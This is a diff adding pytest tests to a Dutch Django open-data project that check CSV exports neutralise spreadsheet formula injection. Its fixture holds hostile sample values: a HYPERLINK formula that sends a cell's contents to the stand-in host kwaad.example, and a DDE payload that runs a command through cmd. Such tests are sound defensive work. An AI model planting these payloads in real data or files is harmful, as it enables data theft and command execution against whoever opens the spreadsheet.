@@ -137,3 +137,38 @@ def test_api_knelpunten_and_agenderingen(client, geagendeerd):
     assert client.get("/api/v1/knelpunten", {"regeling": "BWBR0000000"}).status_code == 400
     assert client.get("/api/v1/knelpunten", {"onbekend": "x"}).status_code == 400
     assert client.post("/api/v1/knelpunten", {}, content_type="application/json").status_code == 405
+
+
+FORMULES = ('=HYPERLINK("https://kwaad.example/?x="&A1,"Klik hier")', "-2+3+cmd|' /C calc'!A0",
+            "+31 6 1234", "@SUM(A1:A9)", "\tgetabd", "\rterug")
+
+
+@pytest.fixture
+def vijandig(geagendeerd, wereld, signaal):
+    """Every text column of the open data starts with a formula character."""
+    from schakel.signalen import services as signaalservices
+    from schakel.signalen.models import Reactie, Toezegging
+
+    from schakel.knelpunten.models import Knelpunt
+
+    signaalservices.reageer(signaal, actor=wereld.behandelaar_szw, besluit="overnemen",
+                            toelichting_tekst="We passen de regeling aan.",
+                            toezeggingen=[signaalservices.NieuweToezegging(
+                                omschrijving="Beleidsregel aanpassen", eigenaar="Directie AV",
+                                uiterlijk=signaal.ingediend_op.date().replace(year=2027))])
+    Signaal.objects.update(titel=FORMULES[0], artikelen=FORMULES[1], praktijk=FORMULES[2],
+                           verbetervoorstel=FORMULES[3])
+    Reactie.objects.update(toelichting=FORMULES[4])
+    Toezegging.objects.update(omschrijving=FORMULES[5], eigenaar=FORMULES[0])
+    Knelpunt.objects.update(titel=FORMULES[1], artikelen=FORMULES[2], beleidsbetekenis=FORMULES[3],
+                            dilemma=FORMULES[4])
+    Agendering.objects.update(reden=FORMULES[5])
+
+
+@pytest.mark.parametrize("naam", ["signalen", "reacties", "toezeggingen", "knelpunten", "agenderingen"])
+def test_csv_neutralises_formulas_and_keeps_them_readable(client, vijandig, naam):
+    rijen = _csv(client, naam)
+    assert rijen
+    cellen = [w for rij in rijen for w in rij.values()]
+    assert not [c for c in cellen if c and c[0] in "=+-@\t\r"], cellen
+    assert {"'" + f for f in FORMULES} & set(cellen)  # readable: the text itself, behind a quote
